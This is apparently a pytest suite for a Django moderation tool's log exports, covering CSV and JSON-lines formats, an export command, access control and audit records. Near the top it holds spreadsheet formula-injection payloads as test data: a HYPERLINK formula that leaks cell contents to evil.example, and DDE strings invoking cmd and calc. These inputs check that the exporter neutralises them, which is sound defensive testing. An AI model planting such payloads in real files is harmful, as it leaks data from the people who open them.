"""Log exports: the CSV and JSON-lines formats, the export_log command, and the dashboard flow.

Alice owns the account, Bob is her co-moderator, Carol her comms officer (the usual exporter),
and Charlie an outsider with his own account.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from moderation import exports
from moderation.models import Action, AuditEvent, Author, Decision, Export, Item, Membership, RuleHit
from moderation.services import item_decide
from tests.factories import CIVIL, RACIST, THREAT, fetched_author, fetched_item

pytestmark = pytest.mark.django_db

ITEM_FIELDS = {
    "code",
    "platform",
    "account",
    "external_id",
    "kind",
    "url",
    "text",
    "posted_at",
    "received_at",
    "author",
    "hits",
    "severity",
    "status",
    "decisions",
}
AUTHOR_FIELDS = {
    "handle",
    "external_id",
    "display_name",
    "created_at",
    "followers_count",
    "following_count",
    "default_avatar",
    "bio",
    "verified",
}
HIT_FIELDS = {"rule", "category", "score", "severity", "reason"}
DECISION_FIELDS = {"action", "by", "at", "note", "outcome"}
SEVERITY_NAMES = {"none", "low", "medium", "high", "critical"}

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
HOSTILE_TEXTS = [
    FORMULA,
    "+1 agree",
    "-2 for you",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\rcmd",
    "Quotes \" and 'single', commas, ; semicolons\nand a second line\r\nand a third",
    "<script>alert(1)</script> & <b>bold</b>",
    "Line\u2028separator\u2029paragraph\x85next-line",
    "Emoji 🙂, Welsh ŵ ŷ, Urdu اردو, right-to-left \u202eoverride",
    "  = leading spaces then equals",
]


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def read_jsonl(text: str) -> list[dict]:
    # splitlines() also splits on U+2028 and friends: every record must still be one line.
    return [json.loads(line) for line in text.splitlines() if line]


def read_csv(text: str) -> tuple[list[str], list[dict]]:
    assert text.startswith(exports.CSV_BOM)
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    header, body = rows[0], rows[1:]
    return header, [dict(zip(header, row, strict=True)) for row in body]


def export_text(fmt: str, **filters) -> str:
    out = io.StringIO()
    count = exports.export_write(stream=out, items_queryset=exports.export_items(**filters), fmt=fmt)
    assert count == Item.objects.filter(pk__in=exports.export_items(**filters).values("pk")).count()
    return out.getvalue()


@pytest.fixture
def decided(ingest, alice, bob, django_capture_on_commit_callbacks):
    """A threat that was hidden, a racist reply escalated, and a civil question left alone."""
    threat, racist, civil = ingest(THREAT, RACIST, CIVIL)
    with django_capture_on_commit_callbacks(execute=True):
        item_decide(item=threat, user=bob, kind="hide", note="threatening, hidden")
        item_decide(item=racist, user=alice, kind="escalate", note="reported to the police")
    return {"threat": threat, "racist": racist, "civil": civil}


@pytest.fixture
def hostile(ingest, alice, django_capture_on_commit_callbacks):
    """Replies whose every platform-supplied field tries to start a spreadsheet formula."""
    author = fetched_author(
        external_id="author-hostile",
        handle="+1handle",
        display_name="-2 Display",
        bio="@SUM(A1:A9)",
    )
    items = ingest(*[fetched_item(text, author=author) for text in HOSTILE_TEXTS])
    Item.objects.filter(pk=items[0].pk).update(url="=cmd|' /C calc'!A0")
    with django_capture_on_commit_callbacks(execute=True):
        item_decide(item=items[0], user=alice, kind="dismiss", note="\tcmd note")
        item_decide(item=items[1], user=alice, kind="dismiss", note="=1+1")
    return items


# --- Formats -----------------------------------------------------------------------------


def test_jsonl_has_exactly_the_agreed_fields(decided):
    records = read_jsonl(export_text("jsonl"))
    assert len(records) == 3
    for record in records:
        assert set(record) == ITEM_FIELDS
        assert set(record["author"]) == AUTHOR_FIELDS
        assert record["severity"] in SEVERITY_NAMES
        for hit in record["hits"]:
            assert set(hit) == HIT_FIELDS
            assert hit["severity"] in SEVERITY_NAMES
        for decision in record["decisions"]:
            assert set(decision) == DECISION_FIELDS
            assert decision["outcome"] is None or set(decision["outcome"]) == {"status", "error", "guidance"}


def test_jsonl_carries_hits_decisions_and_outcomes(decided):
    by_code = {r["code"]: r for r in read_jsonl(export_text("jsonl"))}
    threat = by_code[str(decided["threat"].code)]
    assert threat["account"] == "AliceForMillbrook"
    assert threat["platform"] == "demo"
    assert threat["severity"] == "critical"
    assert threat["status"] == "actioned"
    assert any(hit["rule"] == 2 and hit["severity"] == "critical" for hit in threat["hits"])
    assert threat["author"]["handle"] == "millbrook_mum"
    assert threat["author"]["followers_count"] == 300
    [decision] = threat["decisions"]
    assert decision["action"] == "hide"
    assert decision["by"] == "bob"
    assert decision["note"] == "threatening, hidden"
    assert decision["outcome"] == {"status": Action.Status.DONE, "error": None, "guidance": None}
    racist = by_code[str(decided["racist"].code)]
    outcome = racist["decisions"][0]["outcome"]
    assert outcome["status"] == Action.Status.MANUAL and "999" in outcome["guidance"]
    civil = by_code[str(decided["civil"].code)]
    assert civil["hits"] == [] and civil["decisions"] == [] and civil["severity"] == "none"


def test_items_come_oldest_first(decided):
    records = read_jsonl(export_text("jsonl"))
    assert [r["posted_at"] for r in records] == sorted(r["posted_at"] for r in records)


def test_csv_parses_one_row_per_item_with_hits_and_decisions_in_readable_cells(decided):
    header, rows = read_csv(export_text("csv"))
    assert header == exports.CSV_HEADER
    assert len(rows) == 3
    threat = next(row for row in rows if row["code"] == str(decided["threat"].code))
    assert threat["hits"].startswith("Rule 2 threat (critical, ")
    assert threat["decisions"].startswith("hide by bob at ")
    assert "(done): threatening, hidden" in threat["decisions"]
    racist = next(row for row in rows if row["code"] == str(decided["racist"].code))
    assert "(manual step): reported to the police" in racist["decisions"]
    assert threat["author_handle"] == "millbrook_mum"
    assert threat["severity"] == "critical"


def test_failed_platform_action_shows_why_in_both_formats(decided):
    Action.objects.filter(decision__item=decided["threat"]).update(status="failed", last_error="-Rate limited")
    _, rows = read_csv(export_text("csv"))
    threat = next(row for row in rows if row["code"] == str(decided["threat"].code))
    assert "(failed: -Rate limited): threatening, hidden" in threat["decisions"]
    record = next(r for r in read_jsonl(export_text("jsonl")) if r["code"] == str(decided["threat"].code))
    assert record["decisions"][0]["outcome"] == {"status": "failed", "error": "-Rate limited", "guidance": None}


def test_decision_without_a_platform_action_says_so(ingest, alice):
    [item] = ingest(THREAT)
    item_decide(item=item, user=alice, kind="dismiss")
    _, [row] = read_csv(export_text("csv"))
    assert row["decisions"].endswith("(no platform action)")
    assert read_jsonl(export_text("jsonl"))[0]["decisions"][0]["outcome"] is None


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (True, "yes"),
    ],
)
def test_spreadsheet_safe_neutralises_formula_starts_only(value, expected):
    assert exports.spreadsheet_safe(value) == expected


def test_csv_neutralises_formulas_in_every_cell(hostile):
    _, rows = read_csv(export_text("csv"))
    assert len(rows) == len(HOSTILE_TEXTS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(exports.FORMULA_TRIGGERS), (column, cell)
    first = next(row for row in rows if row["code"] == str(hostile[0].code))
    assert first["text"] == "'" + FORMULA
    assert first["url"] == "'=cmd|' /C calc'!A0"
    assert first["author_handle"] == "'+1handle"
    assert first["author_display_name"] == "'-2 Display"
    assert first["author_bio"] == "'@SUM(A1:A9)"
    assert "(no platform action): \tcmd note" in first["decisions"]
    texts = {row["text"] for row in rows}
    assert "'\tcmd|' /C calc'!A0" in texts
    assert "'\rcmd" in texts


def test_hostile_text_round_trips_in_both_formats(hostile):
    by_code = {r["code"]: r for r in read_jsonl(export_text("jsonl"))}
    assert [by_code[str(item.code)]["text"] for item in hostile] == HOSTILE_TEXTS
    _, rows = read_csv(export_text("csv"))
    csv_by_code = {row["code"]: row["text"] for row in rows}
    for item, original in zip(hostile, HOSTILE_TEXTS, strict=True):
        cell = csv_by_code[str(item.code)]
        neutralised = original.startswith(exports.FORMULA_TRIGGERS)
        assert cell == ("'" + original if neutralised else original)


def test_since_and_account_filters(ingest, account, charlies_account, alice):
    old, new = ingest(
        fetched_item(THREAT, posted_at=datetime(2024, 12, 31, 12, tzinfo=UTC)),
        fetched_item(RACIST, posted_at=datetime(2025, 1, 2, 12, tzinfo=UTC)),
    )
    [other] = ingest(fetched_item(CIVIL, posted_at=datetime(2025, 1, 3, tzinfo=UTC)), target=charlies_account)

    def codes(**filters) -> set[str]:
        return {r["code"] for r in read_jsonl(export_text("jsonl", **filters))}

    assert codes() == {str(old.code), str(new.code), str(other.code)}
    assert codes(since=date(2025, 1, 1)) == {str(new.code), str(other.code)}
    assert codes(account=account) == {str(old.code), str(new.code)}
    assert codes(account=account, since=date(2025, 1, 1)) == {str(new.code)}
    assert codes(user=alice) == {str(old.code), str(new.code)}


def test_comms_officer_export_leaves_out_accounts_they_are_not_in(ingest, carol, charlies_account):
    [own] = ingest(THREAT)
    ingest(RACIST, target=charlies_account)
    assert {r["code"] for r in read_jsonl(export_text("jsonl", user=carol))} == {str(own.code)}


def test_export_reads_in_chunks_with_a_fixed_number_of_queries(ingest, django_assert_max_num_queries):
    ingest(*[f"{THREAT} {n}" for n in range(30)])
    with django_assert_max_num_queries(4):  # items, hits, decisions (with actions and people)
        export_text("jsonl")


def test_progress_is_reported_every_thousand_and_at_the_end(ingest, monkeypatch):
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 2)
    ingest(THREAT, RACIST, CIVIL, "fourth", "fifth")
    seen: list[int] = []
    exports.export_write(stream=io.StringIO(), items_queryset=exports.export_items(), fmt="csv", progress=seen.append)
    assert seen == [2, 4, 5]


def test_digest_writer_hashes_exactly_the_bytes_written():
    sink = io.BytesIO()
    writer = exports.DigestWriter(sink.write, block_size=4)
    for part in ["ab", "ç", "🙂", "\r\n"]:
        writer.write(part)
    writer.flush()
    assert sink.getvalue() == "abç🙂\r\n".encode()
    assert writer.sha256 == hashlib.sha256(sink.getvalue()).hexdigest()
    assert writer.bytes == len(sink.getvalue())


# --- The export_log command --------------------------------------------------------------


def test_command_writes_csv_to_a_file_and_audits_it(decided, tmp_path):
    target = tmp_path / "log.csv"
    err = io.StringIO()
    call_command("export_log", "--format", "csv", "--output", str(target), stderr=err)
    data = target.read_bytes()
    _, rows = read_csv(data.decode("utf-8"))
    assert len(rows) == 3
    digest = hashlib.sha256(data).hexdigest()
    assert "3 items" in err.getvalue() and digest in err.getvalue()
    event = AuditEvent.objects.get(verb=AuditEvent.Verb.EXPORT)
    assert event.actor is None and event.actor_label == "system"
    assert event.account == decided["threat"].account  # the only account there is
    assert event.detail["format"] == "csv"
    assert event.detail["count"] == 3
    assert event.detail["sha256"] == digest
    assert event.detail["filters"] == {"account": None, "since": None}


def test_command_writes_jsonl_to_stdout_and_keeps_it_clean(decided):
    out, err = io.StringIO(), io.StringIO()
    call_command(
        "export_log", "--format", "jsonl", "--account", "@alICEformillBROOK", "--output", "-", stdout=out, stderr=err
    )
    records = read_jsonl(out.getvalue())
    assert len(records) == 3
    assert "sha256" in err.getvalue() and "sha256" not in out.getvalue()
    event = AuditEvent.objects.get(verb=AuditEvent.Verb.EXPORT)
    assert event.detail["sha256"] == hashlib.sha256(out.getvalue().encode()).hexdigest()
    assert event.detail["filters"]["account"] == "AliceForMillbrook"


def test_command_since_filter(ingest):
    ingest(
        fetched_item(THREAT, posted_at=datetime(2024, 12, 31, 12, tzinfo=UTC)),
        fetched_item(RACIST, posted_at=datetime(2025, 1, 2, 12, tzinfo=UTC)),
    )
    out = io.StringIO()
    call_command(
        "export_log", "--format", "jsonl", "--since", "2025-01-01", "--output", "-", stdout=out, stderr=io.StringIO()
    )
    assert [r["text"] for r in read_jsonl(out.getvalue())] == [RACIST]
    assert AuditEvent.objects.get(verb="export").detail["filters"]["since"] == "2025-01-01"


@pytest.mark.parametrize("bad", ["31/01/2025", "2025-13-01", "yesterday", "20250101"])
def test_command_refuses_a_bad_date_clearly(account, bad):
    with pytest.raises(CommandError, match="YYYY-MM-DD"):
        call_command("export_log", "--format", "csv", "--since", bad, "--output", "-", stdout=io.StringIO())
    assert not AuditEvent.objects.filter(verb="export").exists()


def test_command_refuses_an_unknown_account(account):
    with pytest.raises(CommandError, match="No campaign account"):
        call_command("export_log", "--format", "csv", "--account", "nobody", "--output", "-", stdout=io.StringIO())


def test_command_refuses_an_unwritable_output(account, tmp_path):
    with pytest.raises(CommandError, match="Cannot write"):
        call_command("export_log", "--format", "csv", "--output", str(tmp_path / "missing" / "x.csv"))


def test_command_requires_a_known_format(account):
    with pytest.raises(CommandError):
        call_command("export_log", "--format", "xlsx", "--output", "-")


# --- The dashboard -----------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def create(client: Client, **data):
    return client.post(reverse("exports:create"), {"format": "csv", **data})


def test_list_page_shows_the_form_and_only_my_exports(account, carol, alice, media):
    mine = Export.objects.create(requested_by=carol, account=account, format="csv")
    theirs = Export.objects.create(requested_by=alice, account=account, format="jsonl")
    response = client_for(carol).get(reverse("exports:list"))
    assert response.status_code == 200
    assert b"@AliceForMillbrook" in response.content
    assert reverse("exports:detail", kwargs={"code": mine.code}).encode() in response.content
    assert reverse("exports:detail", kwargs={"code": theirs.code}).encode() not in response.content


def test_comms_officer_can_export_and_the_file_is_ready_at_commit(
    decided, account, carol, media, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = create(client_for(carol), account=str(account.code), format="jsonl")
    export = Export.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("exports:detail", kwargs={"code": export.code})
    assert export.requested_by == carol and export.account == account
    assert export.status == Export.Status.DONE
    assert export.total == export.written == 3
    path = media / export.file_name
    assert export.file_name == f"exports/{export.code}.jsonl"
    assert hashlib.sha256(path.read_bytes()).hexdigest() == export.sha256
    assert export.bytes == path.stat().st_size
    event = AuditEvent.objects.get(verb=AuditEvent.Verb.EXPORT)
    assert event.actor == carol and event.account == account
    assert event.object_code == str(export.code)
    assert event.detail["sha256"] == export.sha256 and event.detail["count"] == 3
    assert event.detail["format"] == "jsonl"


def test_owner_and_co_moderator_may_export_too(account, alice, bob, media):
    for user in (alice, bob):
        assert create(client_for(user), account=str(account.code)).status_code == 302
    assert Export.objects.count() == 2


def test_create_rejects_get(account, carol):
    assert client_for(carol).get(reverse("exports:create")).status_code == 405


def test_create_without_csrf_token_is_refused(account, carol):
    client = Client(enforce_csrf_checks=True)
    client.force_login(carol)
    assert create(client, account=str(account.code)).status_code == 403
    assert not Export.objects.exists()


def test_outsider_choosing_someone_elses_account_gets_404(account, charlie, charlies_account):
    assert create(client_for(charlie), account=str(account.code)).status_code == 404
    assert not Export.objects.exists()


def test_anonymous_visitor_is_sent_to_sign_in(account):
    response = Client().post(reverse("exports:create"), {"format": "csv"})
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_create_with_a_bad_date_or_format_explains(account, carol):
    response = create(client_for(carol), since="not a date", format="xlsx")
    assert response.status_code == 400
    assert b"Enter a date like 2025-01-31" in response.content
    assert b"Select a valid choice" in response.content
    assert not Export.objects.exists()


def test_person_without_accounts_is_told_there_is_nothing_to_export(charlie):
    response = create(client_for(charlie))
    assert response.status_code == 400
    assert b"member of any campaign account" in response.content


def test_too_many_exports_at_once_are_refused(account, carol):
    for _ in range(exports.MAX_ACTIVE_EXPORTS):
        Export.objects.create(requested_by=carol, account=account, format="csv")
    response = create(client_for(carol))
    assert response.status_code == 400
    assert b"Wait for one to finish" in response.content


def test_all_my_accounts_export_covers_only_my_memberships(
    ingest, carol, charlies_account, media, django_capture_on_commit_callbacks
):
    [own] = ingest(THREAT)
    ingest(RACIST, target=charlies_account)
    with django_capture_on_commit_callbacks(execute=True):
        create(client_for(carol), format="jsonl")
    export = Export.objects.get()
    assert export.account is None
    records = read_jsonl((media / export.file_name).read_text(encoding="utf-8"))
    assert [r["code"] for r in records] == [str(own.code)]


def test_progress_page_shows_counts_and_polls_while_running(account, carol):
    export = Export.objects.create(
        requested_by=carol, account=account, format="csv", status="running", total=100_000, written=12_000
    )
    response = client_for(carol).get(reverse("exports:detail", kwargs={"code": export.code}))
    assert response.status_code == 200
    content = response.content.decode()
    assert "12,000 of 100,000 items" in content
    assert '<progress aria-label="Export progress" value="12000" max="100000">' in content
    assert 'hx-trigger="every 1s"' in content
    assert reverse("exports:progress", kwargs={"code": export.code}) in content
    assert ">Refresh</a>" in content
    assert "<script" not in content.split("</head>")[1]


def test_progress_fragment_stops_polling_once_done(account, carol):
    export = Export.objects.create(
        requested_by=carol, account=account, format="csv", status="done", total=5, written=5, bytes=10, sha256="ab"
    )
    url = reverse("exports:progress", kwargs={"code": export.code})
    response = client_for(carol).get(url, headers={"HX-Request": "true"})
    assert response.status_code == 200
    content = response.content.decode()
    assert "hx-trigger" not in content and "<html" not in content
    assert reverse("exports:download", kwargs={"code": export.code}) in content
    plain = client_for(carol).get(url)
    assert plain.status_code == 302 and plain["Location"] == reverse("exports:detail", kwargs={"code": export.code})


def test_download_streams_the_file_to_the_requester_and_audits_it(
    decided, account, carol, media, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        create(client_for(carol), account=str(account.code), format="csv")
    export = Export.objects.get()
    response = client_for(carol).get(reverse("exports:download", kwargs={"code": export.code}))
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert hashlib.sha256(body).hexdigest() == export.sha256
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="saferpol-log-aliceformillbrook-')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    event = AuditEvent.objects.get(verb=AuditEvent.Verb.EXPORT_DOWNLOAD)
    assert event.actor == carol and event.object_code == str(export.code)


def test_jsonl_download_has_its_own_content_type(account, carol, media, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        create(client_for(carol), format="jsonl")
    export = Export.objects.get()
    response = client_for(carol).get(reverse("exports:download", kwargs={"code": export.code}))
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert response["Content-Disposition"].endswith('.jsonl"')


@pytest.mark.parametrize("name", ["detail", "progress", "download"])
def test_someone_elses_export_is_404_even_to_the_accounts_owner(account, carol, alice, charlie, name):
    export = Export.objects.create(
        requested_by=carol, account=account, format="csv", status="done", file_name="exports/x.csv"
    )
    url = reverse(f"exports:{name}", kwargs={"code": export.code})
    for other in (alice, charlie):
        assert client_for(other).get(url, headers={"HX-Request": "true"}).status_code == 404


def test_member_removed_from_the_account_loses_their_export(account, carol):
    export = Export.objects.create(requested_by=carol, account=account, format="csv")
    Membership.objects.filter(user=carol).delete()
    assert client_for(carol).get(reverse("exports:detail", kwargs={"code": export.code})).status_code == 404


def test_download_before_it_is_ready_explains_instead(account, carol):
    export = Export.objects.create(requested_by=carol, account=account, format="csv", status="running")
    client = client_for(carol)
    response = client.get(reverse("exports:download", kwargs={"code": export.code}), follow=True)
    assert response.redirect_chain[-1][0] == reverse("exports:detail", kwargs={"code": export.code})
    assert b"still being written" in response.content
    assert not AuditEvent.objects.filter(verb=AuditEvent.Verb.EXPORT_DOWNLOAD).exists()


def test_download_of_a_missing_file_answers_410_saying_what_it_was_and_to_make_it_again(account, carol, media, caplog):
    export = Export.objects.create(
        requested_by=carol,
        account=account,
        format="csv",
        status="done",
        file_name="exports/gone.csv",
        sha256="b" * 64,
        total=12,
        finished_at=timezone.now(),
    )
    with caplog.at_level(logging.WARNING, logger="moderation.export_views"):
        response = client_for(carol).get(reverse("exports:download", kwargs={"code": export.code}))
    assert response.status_code == 410
    body = response.content.decode()
    assert "This export's file is missing" in body and "no longer on the server" in body
    assert "A CSV (spreadsheet) export of 12 items from @AliceForMillbrook, made" in body
    assert "b" * 64 in body
    assert "Start a new export" in body and reverse("exports:list") in body
    assert "has expired" not in body
    # The operators are told: an export that is ready should never be without its file.
    (record,) = [r for r in caplog.records if r.name == "moderation.export_views"]
    assert record.levelno == logging.WARNING and str(export.code) in record.getMessage()
    assert not AuditEvent.objects.filter(verb=AuditEvent.Verb.EXPORT_DOWNLOAD).exists()


def test_someone_elses_export_with_a_missing_file_is_still_404(account, carol, alice, media):
    export = Export.objects.create(
        requested_by=carol, account=account, format="csv", status="done", file_name="exports/gone.csv"
    )
    assert client_for(alice).get(reverse("exports:download", kwargs={"code": export.code})).status_code == 404


def test_failed_export_says_so(account, carol, media, monkeypatch, django_capture_on_commit_callbacks):
    def broken(**kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "export_write", broken)
    with django_capture_on_commit_callbacks(execute=True):
        create(client_for(carol), account=str(account.code))
    export = Export.objects.get()
    assert export.status == Export.Status.FAILED
    assert "could not be written" in export.error
    assert not list((media / "exports").glob("*"))
    page = client_for(carol).get(reverse("exports:detail", kwargs={"code": export.code}))
    assert b"could not be written" in page.content and b"hx-trigger" not in page.content


def test_running_an_export_twice_leaves_the_finished_one_alone(account, carol, media, ingest):
    ingest(THREAT)
    export = Export.objects.create(requested_by=carol, account=account, format="csv")
    first = exports.export_file_run(export_id=export.pk)
    again = exports.export_file_run(export_id=export.pk)
    assert first.status == again.status == Export.Status.DONE
    assert again.sha256 == first.sha256
    assert AuditEvent.objects.filter(verb="export").count() == 1


def bulk_items(account, user, n: int) -> None:
    """n items straight into the database, each with a hit and every third with a decision."""
    author = Author.objects.create(platform="demo", external_id="bulk-author", handle="bulk")
    start = datetime(2025, 1, 1, tzinfo=UTC)
    items = Item.objects.bulk_create(
        Item(
            account=account,
            platform="demo",
            external_id=f"bulk-{i}",
            kind="reply",
            text=f"=bulk reply {i}",
            author=author,
            posted_at=start + timedelta(seconds=i),
            severity=2,
            status="open",
        )
        for i in range(n)
    )
    RuleHit.objects.bulk_create(
        RuleHit(item=item, rule=1, category="insult", score=0.5, severity=2, reason="bulk") for item in items
    )
    Decision.objects.bulk_create(Decision(item=item, kind="dismiss", decided_by=user) for item in items[::3])


def test_a_two_thousand_item_export_completes_with_matching_counts_and_hash(
    account, carol, alice, media, django_capture_on_commit_callbacks
):
    bulk_items(account, alice, 2000)
    with django_capture_on_commit_callbacks(execute=True):
        create(client_for(carol), account=str(account.code), format="csv")
    export = Export.objects.get()
    assert export.status == Export.Status.DONE
    assert export.total == export.written == 2000
    data = (media / export.file_name).read_bytes()
    assert hashlib.sha256(data).hexdigest() == export.sha256
    assert export.bytes == len(data)
    _, rows = read_csv(data.decode("utf-8"))
    assert len(rows) == 2000
    assert rows[0]["external_id"] == "bulk-0" and rows[-1]["external_id"] == "bulk-1999"
    assert rows[0]["text"] == "'=bulk reply 0"
    assert sum(1 for row in rows if row["decisions"]) == 667
    page = client_for(carol).get(reverse("exports:detail", kwargs={"code": export.code}))
    assert b"2,000 of 2,000 items" in page.content
